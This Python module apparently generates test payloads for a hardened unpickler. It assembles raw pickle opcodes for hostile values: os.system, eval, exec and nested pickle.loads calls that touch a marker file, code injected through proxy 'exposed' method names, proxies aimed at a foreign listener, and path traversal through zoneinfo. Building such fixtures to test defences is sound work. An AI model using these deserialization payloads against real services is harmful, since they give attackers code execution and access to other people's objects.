"""Values that a hostile client stores, as opcodes: each tries to make whoever reads it run code, connect elsewhere, or act
with the reader's rights.

`forms(target)` gives (name, opcodes) pairs; `honest(target)` gives values that have to arrive. The opcodes push one value and
use memo indices from 1000 on, so that they can be put into any pickle of protocol 4.
"""

import struct

MANAGERS = "multiprocessing.managers"


class Target:
    """What the forms are aimed at."""

    def __init__(self, marker, server, listener, idents, foreign="7f0011223344"):
        # A file that is made if code runs.
        self.marker = marker
        # Where the honest server is.
        self.server = server
        # Where somebody else listens: (host, port).
        self.listener = listener
        # Idents of living objects by typeid; those of `dict` and `list` belong to somebody.
        self.idents = idents
        # The ident of an object elsewhere.
        self.foreign = foreign

    @property
    def dead(self):
        """An ident that our server may have given, but hasn't."""
        return self.idents["list"].rpartition("-")[0] + "-ffffff"

    @property
    def code(self):
        """Python that leaves the marker."""
        return "open(%r, 'w')" % self.marker


# The assembler: each function gives the opcodes that push one value.

def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value):
    return b"J" + struct.pack("<i", value)


def octets(value):
    return b"B" + struct.pack("<I", len(value)) + value


def name(module, qualified):
    return text(module) + text(qualified) + b"\x93"


def name_in_lines(module, qualified):
    return ("c%s\n%s\n" % (module, qualified)).encode()


def tuple_of(*parts):
    return b"(" + b"".join(parts) + b"t"


def list_of(*parts):
    return b"](" + b"".join(parts) + b"e"


def dict_of(*parts):
    return b"}(" + b"".join(parts) + b"u"


def call(function, *arguments):
    return function + tuple_of(*arguments) + b"R"


def new(cls, *arguments):
    return cls + tuple_of(*arguments) + b"\x81"


def new_with_keywords(cls, keywords):
    return cls + b")" + keywords + b"\x92"


def build(instance, state):
    return instance + state + b"b"


def append(instance, *items):
    return instance + b"(" + b"".join(items) + b"e"


def set_items(instance, *items):
    return instance + b"(" + b"".join(items) + b"u"


def add_items(instance, *items):
    return instance + b"(" + b"".join(items) + b"\x90"


def put(value, index=1000):
    return value + b"r" + struct.pack("<I", index)


def get(index=1000):
    return b"j" + struct.pack("<I", index)


def cycle_with(value):
    """A list that contains itself and the value."""
    return put(b"]") + get() + b"a" + value + b"a"


NONE = b"N"
MARK = b"("


def managers(qualified):
    return name(MANAGERS, qualified)


def address_of(address):
    return text(address) if isinstance(address, str) else tuple_of(text(address[0]), number(address[1]))


def token(typeid, address, ident):
    state = tuple_of(text(typeid), address_of(address), text(ident))
    return build(managers("Token") + b")\x81", state)


def proxy(cls, made, serializer="pickle", keywords=b"}"):
    return call(managers("RebuildProxy"), cls, made, text(serializer), keywords)


def exposed(*names):
    return dict_of(text("exposed"), tuple_of(*(text(each) for each in names)))


def honest(target):
    """Values that arrive, as what they are."""
    mine = lambda typeid: token(typeid, target.server, target.idents[typeid])
    lied = lambda typeid: token("evil", target.listener, target.idents[typeid])
    return [
        ("a list", proxy(managers("ListProxy"), mine("list"))),
        ("a list at a wrong address", proxy(managers("ListProxy"), lied("list"))),
        ("a lock with other methods", proxy(managers("AutoProxy"), lied("Lock"), keywords=exposed("x", "acquire"))),
        ("a lock by another serializer", proxy(managers("AutoProxy"), lied("Lock"), serializer="evil")),
        ("a list as an iterator", proxy(managers("IteratorProxy"), lied("list"))),
        ("a list in a cycle", cycle_with(proxy(managers("ListProxy"), lied("list")))),
        ("a token", lied("list")),
        ("a proxy in a UserDict", build(
            name("collections", "UserDict") + b")\x81",
            dict_of(text("data"), dict_of(text("k"), proxy(managers("ListProxy"), mine("list")))))),
    ]


def forms(target):
    """All of them, as (name, opcodes)."""
    return (names_that_run(target) + elsewhere(target) + other_makings(target) + other_callables(target)
            + deputies(target) + states(target))


def names_that_run(target):
    """Names of methods, of which `MakeProxyType` makes source code."""
    evil = "x(self): pass\n%s\ndef y" % target.code
    lock = token("Lock", target.server, target.idents["Lock"])
    foreign = token("Lock", target.listener, target.foreign)
    auto = managers("AutoProxy")
    return [
        ("exposed runs", proxy(auto, lock, keywords=exposed(evil))),
        ("exposed runs among others", proxy(auto, lock, keywords=exposed("acquire", evil))),
        ("exposed runs, in a list", proxy(auto, lock, keywords=dict_of(text("exposed"), list_of(text(evil))))),
        ("exposed is a text", proxy(auto, lock, keywords=dict_of(text("exposed"), text(evil)))),
        ("exposed is a dict", proxy(auto, lock, keywords=dict_of(text("exposed"), dict_of(text(evil), NONE)))),
        ("exposed of a foreign lock runs", proxy(auto, foreign, keywords=exposed(evil))),
        ("exposed runs in a cycle", cycle_with(proxy(auto, lock, keywords=exposed(evil)))),
        ("exposed is a keyword", proxy(auto, lock, keywords=exposed("def"))),
        ("exposed has a line's end", proxy(auto, lock, keywords=exposed("x\n"))),
        ("exposed has a blank", proxy(auto, lock, keywords=exposed("x y"))),
        ("exposed is empty text", proxy(auto, lock, keywords=exposed(""))),
        ("exposed has a surrogate", proxy(auto, lock, keywords=exposed("x\ud800"))),
    ]


def elsewhere(target):
    """Addresses and keys that are the sender's."""
    cls = managers("ListProxy")
    key = lambda ident: proxy(
        cls, token("list", target.listener, ident), keywords=dict_of(text("authkey"), octets(b"evil")))
    living = target.idents["list"]
    return [
        ("a foreign object", proxy(cls, token("list", target.listener, target.foreign))),
        ("a foreign object with a key", key(target.foreign)),
        ("a living object with a key", key(living)),
        ("a dead object", proxy(cls, token("list", target.listener, target.dead))),
        ("a dead object here", proxy(cls, token("list", target.server, target.dead))),
        ("a dead object with a key", key(target.dead)),
        ("a foreign object in a cycle", cycle_with(proxy(cls, token("list", target.listener, target.foreign)))),
        ("a dead object in a cycle", cycle_with(proxy(cls, token("list", target.listener, target.dead)))),
        ("no ident", proxy(cls, token("list", target.listener, ""))),
        ("another manager", proxy(
            cls, token("list", target.server, living), keywords=dict_of(text("manager"), NONE))),
        ("no incref", proxy(
            cls, token("list", target.server, living), keywords=dict_of(text("incref"), b"\x89"))),
        ("owned by the manager", proxy(
            cls, token("list", target.server, living), keywords=dict_of(text("manager_owned"), b"\x88"))),
        ("a foreign AutoProxy", proxy(managers("AutoProxy"), token("list", target.listener, target.foreign))),
        ("a foreign token", token("list", target.listener, target.foreign)),
        ("a dead token", token("list", target.listener, target.dead)),
        ("a foreign iterator", proxy(
            managers("IteratorProxy"), token("Iterator", target.listener, target.foreign))),
        ("a foreign proxy of XML-RPC", proxy(
            cls, token("list", target.listener, target.foreign), serializer="xmlrpclib")),
    ]


def other_makings(target):
    """The same by other opcodes, or by other calls."""
    made = token("list", target.listener, target.idents["list"])
    foreign = token("list", target.listener, target.foreign)
    state = lambda value: dict_of(
        text("_token"), value, text("_serializer"), text("pickle"), text("_authkey"), octets(b"evil"),
        text("_id"), text(target.foreign), text("_manager"), NONE, text("_owned_by_manager"), b"\x89")
    result = []
    for cls in ("ListProxy", "DictProxy", "AutoProxy", "BaseProxy", "IteratorProxy", "NamespaceProxy", "PoolProxy"):
        lines = ("%s\n%s\n" % (MANAGERS, cls)).encode()
        result += [
            ("NEWOBJ of " + cls, build(new(managers(cls)), state(made))),
            ("NEWOBJ_EX of " + cls, build(new_with_keywords(managers(cls), b"}"), state(made))),
            ("REDUCE of " + cls, call(managers(cls), foreign, text("pickle"))),
            ("INST of " + cls, MARK + foreign + text("pickle") + b"i" + lines),
            ("INST of " + cls + " without arguments", build(MARK + b"i" + lines, state(made))),
            ("OBJ of " + cls, MARK + managers(cls) + foreign + text("pickle") + b"o"),
            ("_reconstructor of " + cls, build(
                call(name("copyreg", "_reconstructor"), managers(cls), name("builtins", "object"), NONE), state(made))),
        ]
    shapes = {
        "three arguments": (managers("ListProxy"), made, text("pickle")),
        "five arguments": (managers("ListProxy"), made, text("pickle"), b"}", NONE),
        "a token that is a tuple": (
            managers("ListProxy"), tuple_of(text("list"), address_of(target.listener), text("1")), text("pickle"), b"}"),
        "a token that is a list": (managers("ListProxy"), list_of(made), text("pickle"), b"}"),
        "keywords that are a tuple": (managers("ListProxy"), made, text("pickle"), b")"),
        "a class that is none of a proxy": (name("builtins", "list"), made, text("pickle"), b"}"),
        "Namespace": (managers("Namespace"), made, text("pickle"), exposed("x")),
        "itself": (managers("RebuildProxy"), made, text("pickle"), b"}"),
        "an admitted function": (name("shop", "os.system"), made, text("pickle"), b"}"),
    }
    result += [("RebuildProxy of " + each, call(managers("RebuildProxy"), *parts)) for each, parts in shapes.items()]
    rebuild = proxy(managers("ListProxy"), made)
    result += [
        ("NEWOBJ of RebuildProxy", new(managers("RebuildProxy"), managers("ListProxy"), foreign, text("pickle"), b"}")),
        ("BUILD of a proxy", build(rebuild, dict_of(text("_authkey"), octets(b"evil")))),
        ("BUILD of a proxy with slots", build(rebuild, tuple_of(NONE, dict_of(text("_token"), foreign)))),
        ("APPENDS to a proxy", append(rebuild, text("evil"))),
        ("SETITEMS of a proxy", set_items(
            proxy(managers("DictProxy"), token("dict", target.server, target.idents["dict"])), text("evil"), NONE)),
        ("ADDITEMS to a proxy", add_items(rebuild, text("evil"))),
        ("REDUCE of Token", call(managers("Token"), text("list"), address_of(target.listener), text("1"))),
        ("BUILD of a token twice", build(made, tuple_of(text("list"), address_of(target.listener), text("1")))),
        ("NEWOBJ_EX of Token", build(
            new_with_keywords(managers("Token"), b"}"),
            tuple_of(text("list"), address_of(target.listener), text(target.foreign)))),
        ("object.__reduce_ex__ of a proxy", call(name("builtins", "object.__reduce_ex__"), rebuild, number(2))),
    ]
    return result


def other_callables(target):
    """Names that aren't data, by whichever way they are found."""
    command = text("touch " + target.marker)
    function = name("os", "system")
    evil = [
        ("os", "system", (command,)), ("posix", "system", (command,)), ("shop", "os.system", (command,)),
        ("builtins", "eval", (text(target.code),)), ("builtins", "exec", (text(target.code),)),
        ("builtins", "getattr", (name("builtins", "list"), text("append"))),
        ("collections", "_sys.modules", ()), ("multiprocessing.managers", "os.system", (command,)),
        ("multiprocessing.managers", "MakeProxyType", (text("x"), tuple_of(text("x(self): pass\n%s\ndef y" % target.code)))),
        ("multiprocessing.managers", "BaseManager", (address_of(target.listener),)),
        ("functools", "partial", (function, command)), ("functools", "reduce", (function, list_of(command))),
        ("operator", "methodcaller", (text("append"),)), ("operator", "attrgetter", (text("append"),)),
        ("types", "FunctionType", ()), ("types", "MethodType", (function, command)),
        ("copyreg", "__newobj__", (managers("ListProxy"),)), ("copyreg", "__reduce_ex__", (NONE, number(2))),
        ("builtins", "map", (function, list_of(command))), ("itertools", "starmap", (function, list_of(tuple_of(command)))),
        ("zoneinfo", "ZoneInfo._unpickle", (text("../../../" + target.marker), b"\x88")),
        ("zoneinfo", "ZoneInfo", (text("/" + target.marker),)),
        ("_codecs", "encode", (command, text("rot13"))), ("codecs", "decode", (command, text("unicode_escape"))),
        ("pickle", "loads", (octets(b"cos\nsystem\n(Vtouch " + target.marker.encode() + b"\ntR."),)),
        ("builtins", "__import__", (text("antigravity"),)),
        ("shop", "subprocess.getoutput", (command,)), ("shop", "Order.__reduce_ex__", (NONE,)),
        ("multiprocessing.connection", "Client", (address_of(target.listener),)),
    ]
    result = [("%s.%s" % (module, each), call(name(module, each), *arguments)) for module, each, arguments in evil]
    result += [
        ("GLOBAL of os.system", call(name_in_lines("os", "system"), command)),
        ("GLOBAL of shop's os.system", call(name_in_lines("shop", "os.system"), command)),
        ("INST of os.system", MARK + command + b"ios\nsystem\n"),
        ("OBJ of os.system", MARK + function + command + b"o"),
        ("iter of os.system", call(name("builtins", "iter"), function, number(0))),
        ("iter of a class", call(name("builtins", "iter"), name("shop", "Order"), number(0))),
        ("a defaultdict of os.system", call(name("collections", "defaultdict"), function)),
        ("a GenericAlias of os.system", call(name("types", "GenericAlias"), function, b")")),
        ("a GenericAlias with a state", build(
            call(name("types", "GenericAlias"), name("shop", "Order"), b")"), dict_of(text("x"), NONE))),
        ("_reconstructor of os.system", call(name("copyreg", "_reconstructor"), function, name("builtins", "object"), NONE)),
        ("_reconstructor of a standard class", call(
            name("copyreg", "_reconstructor"), name("collections", "OrderedDict"), name("builtins", "dict"), b"}")),
        ("numpy with a class of one's own", call(
            name("numpy.core.multiarray", "_reconstruct"), name("shop", "Order"), tuple_of(number(0)), octets(b"b"))),
    ]
    return result


def deputies(target):
    """Proxies of somebody's objects that are used where they are unpickled."""
    somebodys_dict = proxy(managers("DictProxy"), token("dict", target.server, target.idents["dict"]))
    somebodys_list = proxy(managers("ListProxy"), token("list", target.server, target.idents["list"]))
    item = (text("evil"), text("evil"))
    user_dict = build(new(name("collections", "UserDict")), dict_of(text("data"), somebodys_dict))
    user_list = build(new(name("collections", "UserList")), dict_of(text("data"), somebodys_list))
    chain = build(new(name("collections", "ChainMap")), dict_of(text("maps"), list_of(somebodys_dict)))
    box = build(new(name("shop", "Box")), dict_of(text("data"), somebodys_dict))
    calls = [
        ("builtins", "list"), ("builtins", "tuple"), ("builtins", "set"), ("builtins", "dict"), ("builtins", "iter"),
        ("builtins", "reversed"), ("builtins", "bytes"), ("builtins", "bytearray"), ("builtins", "str"),
        ("builtins", "frozenset"), ("builtins", "enumerate"), ("collections", "deque"), ("collections", "OrderedDict"),
        ("collections", "Counter"), ("collections", "UserDict"), ("collections", "UserList"), ("collections", "ChainMap"),
        ("decimal", "Decimal"), ("fractions", "Fraction"), ("pathlib", "PurePosixPath"), ("ipaddress", "ip_address"),
        ("types", "SimpleNamespace"), ("shop", "Order"), ("shop", "Box"),
    ]
    result = [("%s of a proxy" % each, call(name(module, each), somebodys_list)) for module, each in calls]
    result += [
        ("SETITEMS of a UserDict", set_items(user_dict, *item)),
        ("SETITEM of a UserDict", user_dict + item[0] + item[1] + b"s"),
        ("a UserDict around a proxy", user_dict),
        ("APPENDS to a UserList", append(user_list, text("evil"))),
        ("APPEND to a UserList", user_list + text("evil") + b"a"),
        ("SETITEMS of a UserList", set_items(user_list, number(0), text("evil"))),
        ("SETITEMS of a ChainMap", set_items(chain, *item)),
        ("SETITEMS of an admitted class", set_items(box, *item)),
        ("an admitted class around a proxy", box),
        ("a UserDict in a cycle", cycle_with(set_items(user_dict, *item))),
        ("a UserDict with itself", put(new(name("collections", "UserDict"))) + dict_of(
            text("data"), somebodys_dict, text("x"), get()) + b"b"),
        ("an admitted class with itself", put(new(name("shop", "Box"))) + dict_of(
            text("data"), somebodys_dict, text("x"), get()) + b"b"),
        ("_reconstructor of an admitted class", call(
            name("copyreg", "_reconstructor"), name("shop", "Rows"), name("builtins", "list"), somebodys_list)),
        ("a group of exceptions", call(name("builtins", "ExceptionGroup"), text("x"), somebodys_list)),
        ("a syntax error", call(name("builtins", "SyntaxError"), text("x"), somebodys_list)),
        ("args of an exception", build(
            call(name("builtins", "KeyError")), dict_of(text("args"), somebodys_list))),
    ]
    return result


def states(target):
    """States that put a function where `pickle` looks for a method, or give an attribute a meaning."""
    simple = call(name("types", "SimpleNamespace"))
    fire = name("shop", "Order")
    key = lambda each, value=fire: dict_of(text(each), value)
    error = call(name("builtins", "ValueError"), text("x"))
    return [
        ("append in a SimpleNamespace", append(build(simple, key("append")), text("x"))),
        ("extend in a SimpleNamespace", append(build(simple, key("extend")), text("x"))),
        ("add in a SimpleNamespace", add_items(build(simple, key("add")), text("x"))),
        ("__setstate__ in a SimpleNamespace", build(build(simple, key("__setstate__")), text("x"))),
        ("append in an admitted class", append(build(new(name("shop", "Order")), key("append")), text("x"))),
        ("append in a Namespace", append(build(new(managers("Namespace")), key("append")), text("x"))),
        ("no name in a SimpleNamespace", build(simple, key("x y"))),
        ("no name in a Namespace", build(new(managers("Namespace")), key("x y"))),
        ("slots of a Namespace", build(new(managers("Namespace")), tuple_of(NONE, key("__class__")))),
        ("__class__ of an exception", build(error, key("__class__", name("queue", "Full")))),
        ("__dict__ of an exception", build(error, key("__dict__", b"}"))),
        ("keywords that are no names", new_with_keywords(name("shop", "Order"), key("x y"))),
        ("keywords that are numbers", new_with_keywords(name("shop", "Order"), dict_of(number(1), NONE))),
        ("APPENDS to a deque's attribute", append(
            build(call(name("collections", "deque")), key("extend")), text("x"))),
    ]
